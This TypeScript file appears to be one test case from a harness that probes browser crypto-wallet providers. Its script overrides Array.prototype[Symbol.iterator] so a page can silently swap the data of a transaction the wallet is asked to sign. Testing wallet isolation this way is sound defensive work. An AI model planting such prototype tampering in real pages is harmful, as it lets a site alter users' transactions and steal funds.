import type { Attack } from '../Attack.ts';

/** for..of and spread ask the page. */
export const attack: Attack = {
  entry: 'provider.request',
  mechanism: 'Array.prototype[Symbol.iterator] shows another list',
  discovers: true,
  script: `
const wallet = await kit.wallet();
const real = Array.prototype[Symbol.iterator];
Array.prototype[Symbol.iterator] = function () {
  const evil = this[0] && this[0].data === kit.hex;
  return real.call(evil ? [{ ...this[0], data: '0xb0' + kit.marker.slice(2) }] : this);
};
wallet.request(kit.send());
`,
};
